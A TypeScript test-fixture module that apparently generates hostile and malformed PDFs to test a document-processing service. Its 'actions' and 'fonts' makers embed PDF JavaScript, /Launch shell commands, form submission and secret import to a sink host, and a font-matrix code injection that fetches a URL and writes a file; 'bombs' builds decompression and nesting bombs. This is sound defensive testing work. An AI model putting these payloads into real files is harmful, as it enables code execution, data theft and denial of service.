/** Makers of PDF files: whole ones, ones that want to run or fetch something, bombs, loops and damaged ones. */
import { deflateSync } from 'node:zlib';
import { bombOf, pdfOf, pdfStream, rawPdf } from '../document-files.ts';
import {
  ANY,
  between,
  citingLines,
  type Drawing,
  damagedBytes,
  type Make,
  oneOf,
} from './drawing.ts';

const MB = 1024 * 1024;
const LINES_A_PAGE = 20;
const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';
const RESOURCES = '/Resources << /Font << /F1 5 0 R >> >>';
const PAGE = `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R ${RESOURCES} >>`;

/** WinAnsi, as the standard fonts have it. */
const shown = (lines: readonly string[]): Buffer =>
  Buffer.from(
    `BT /F1 9 Tf 12 TL 40 800 Td ${lines.map(line => `(${line}) Tj T*`).join('\n')} ET`,
    'latin1',
  );

const WIN_ANSI = FONT.replace('>>', '/Encoding /WinAnsiEncoding >>');

export const whole: Make = async drawing => {
  const { lines, cited } = citingLines(drawing, between(drawing, 1, 60));
  const pages: string[] = [];
  for (let at = 0; at < lines.length; at += LINES_A_PAGE)
    pages.push(lines.slice(at, at + LINES_A_PAGE).join('\n'));
  return { name: 'inteiro.pdf', bytes: await pdfOf(pages), outcomes: ['report'], cited };
};

/** Files that a reader refuses, although nothing in them is wrong. */
export const unreadable: Make = async drawing => {
  const scan = Array.from({ length: between(drawing, 1, 30) }, () => '');
  const long = Array.from({ length: between(drawing, 401, 500) }, (_, i) => `Página ${i}.`);
  const forms: (() => Promise<Pick<Awaited<ReturnType<Make>>, 'bytes' | 'outcomes'>>)[] = [
    async () => ({ bytes: await pdfOf(scan), outcomes: ['DOCUMENT_WITHOUT_TEXT'] }),
    async () => ({
      bytes: await pdfOf(['a'], { userPassword: 'segredo' }),
      outcomes: ['DOCUMENT_UNREADABLE'],
    }),
    async () => ({ bytes: await pdfOf(long), outcomes: ['PAYLOAD_TOO_LARGE'] }),
  ];
  return { name: 'recusado.pdf', cited: null, ...(await oneOf(drawing, forms)()) };
};

/** Actions at the opening, at each page and at fields, and streams and files that lie elsewhere. */
export const actions: Make = drawing => {
  const { lines, cited } = citingLines(drawing, 10);
  const { sink, marker, secret } = drawing;
  const script = `app.launchURL("${sink}/js", true); this.submitForm("${sink}/form");`;
  const list = [
    `<< /S /JavaScript /JS (${script.replaceAll(/[()]/g, '\\$&')}) >>`,
    `<< /S /Launch /F (/bin/sh) /Win << /F (cmd) /P (/c touch ${marker}) >> /Unix << /F (touch ${marker}) >> >>`,
    `<< /S /URI /URI (${sink}/uri) >>`,
    `<< /S /SubmitForm /F << /FS /URL /F (${sink}/submit) >> >>`,
    `<< /S /ImportData /F (${secret}) >>`,
    `<< /S /GoToR /D [0 /Fit] /F << /FS /URL /F (${sink}/remote.pdf) >> >>`,
  ];
  const opened = oneOf(drawing, list);
  const page = PAGE.replace(
    '>> >>',
    `>> /XObject << /X1 6 0 R >> >> /AA << /O ${oneOf(drawing, list)} >>`,
  );
  const outside = `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /F << /FS /URL /F (${sink}/x) >>`;
  const bytes = rawPdf([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${opened} /AA << /WC ${oneOf(drawing, list)} >> ` +
      `/AcroForm << /XFA [(template) 7 0 R] /Fields [] >> /Names << /JavaScript << /Names [(a) ${list[0]}] >> >> >>`,
    PAGES,
    page,
    pdfStream('', Buffer.concat([shown(lines), Buffer.from('\n/X1 Do')])),
    WIN_ANSI,
    pdfStream(outside, Buffer.from('')),
    pdfStream(
      '',
      Buffer.from(`<template><script>${script}</script><image href="${sink}/xfa"/></template>`),
    ),
  ]);
  return { name: 'ativo.pdf', bytes, outcomes: ['report'], cited };
};

/** Numbers and names of a font that some reader has run as a program, and fonts that lie elsewhere. */
export const fonts: Make = drawing => {
  const { lines } = citingLines(drawing, 5);
  const run = `fetch('${drawing.sink}/font'); require('fs').writeFileSync('${drawing.marker}', '');`;
  const matrix = `(1\\); ${run.replaceAll(/[()]/g, '\\$&')} //)`;
  const descriptor = `<< /Type /FontDescriptor /FontName /Outra /Flags 4 /FontFile2 8 0 R >>`;
  const type3 =
    `<< /Type /Font /Subtype /Type3 /FontMatrix [1 0 0 1 0 ${matrix}] /FontBBox [0 0 9 9] ` +
    '/Encoding << /Differences [65 /a] >> /CharProcs << /a 4 0 R >> /FirstChar 65 /LastChar 65 /Widths [9] >>';
  const truetype =
    `<< /Type /Font /Subtype /TrueType /BaseFont /Outra /FontMatrix [1 2 3 4 5 ${matrix}] ` +
    '/FontDescriptor 7 0 R /FirstChar 0 /LastChar 1 /Widths [9 9] >>';
  const bytes = rawPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    PAGES,
    PAGE,
    pdfStream('', shown(lines)),
    oneOf(drawing, [type3, truetype]),
    'null',
    descriptor,
    pdfStream(`/F << /FS /URL /F (${drawing.sink}/ttf) >>`, Buffer.from('OTTO')),
  ]);
  return { name: 'fonte.pdf', bytes, outcomes: ANY, cited: null };
};

export const bombs: Make = drawing => {
  const packed = (content: Buffer, times: number): Buffer =>
    times === 0 ? content : packed(deflateSync(content), times - 1);
  const text = shown(['Súmula 7 do STJ']);
  const contents = (stream: Buffer) =>
    rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', PAGES, PAGE, stream, WIN_ANSI]);
  const filters = (count: number) => `/Filter [${'/FlateDecode '.repeat(count)}]`;
  const zeros = Buffer.alloc(between(drawing, 50, 200) * MB, ' ');
  const forms: (() => Buffer)[] = [
    () => bombOf(between(drawing, 50, 300) * MB),
    () => contents(pdfStream(filters(2), packed(Buffer.concat([zeros, text]), 2))),
    () => contents(pdfStream(filters(100), packed(text, 100))),
    () => contents(pdfStream('/Filter /LZWDecode', Buffer.alloc(2 * MB, 0x80))),
    () => contents(Buffer.from('['.repeat(2 * MB))),
    () => contents(pdfStream('', Buffer.from('[ '.repeat(2 * MB)))),
    () => contents(pdfStream('', Buffer.from('q '.repeat(2 * MB)))),
  ];
  return { name: 'bomba.pdf', bytes: oneOf(drawing, forms)(), outcomes: ANY, cited: null };
};

/** Objects that lead back to themselves. */
export const loops: Make = drawing => {
  const form =
    '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 4 0 R >> >>';
  const text = pdfStream('', shown(['Súmula 7 do STJ']));
  const catalog = '<< /Type /Catalog /Pages 2 0 R >>';
  const forms: readonly (readonly (string | Buffer)[])[] = [
    [catalog, '<< /Type /Pages /Kids [2 0 R] /Count 9 >>'],
    [
      catalog,
      '<< /Type /Pages /Kids [3 0 R 2 0 R 3 0 R] /Count 3 /Parent 2 0 R >>',
      PAGE,
      text,
      WIN_ANSI,
    ],
    [
      catalog,
      PAGES,
      PAGE.replace('/F1 5 0 R', '/F1 3 0 R').replace('/Font', '/XObject << /X 4 0 R >> /Font'),
      pdfStream(form, Buffer.from('/X Do /X Do')),
    ],
    [
      catalog,
      PAGES,
      PAGE.replace('4 0 R', '[4 0 R 6 0 R 4 0 R]'),
      text,
      WIN_ANSI,
      '[6 0 R 6 0 R 3 0 R]',
    ],
    [catalog, PAGES, PAGE, '<< /Length 4 0 R >>\nstream\n\nendstream', WIN_ANSI],
    [catalog, `<< /Type /Pages /Kids [3 0 R] /Count ${2 ** 31} >>`, PAGE, text, WIN_ANSI],
    ['1 0 R'],
  ];
  const bytes = rawPdf(oneOf(drawing, forms));
  return { name: 'laço.pdf', bytes, outcomes: ANY, cited: null };
};

export const damaged: Make = async drawing => {
  const { bytes } = await whole(drawing);
  return {
    name: 'danificado.pdf',
    bytes: damagedBytes(drawing, bytes),
    outcomes: ANY,
    cited: null,
  };
};

export const huge = (drawing: Drawing): ReturnType<Make> => {
  const bytes = Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(100 * MB, 'a')]);
  const isChunked = drawing.random() < 0.5;
  return { name: 'enorme.pdf', bytes, outcomes: ['PAYLOAD_TOO_LARGE'], cited: null, isChunked };
};
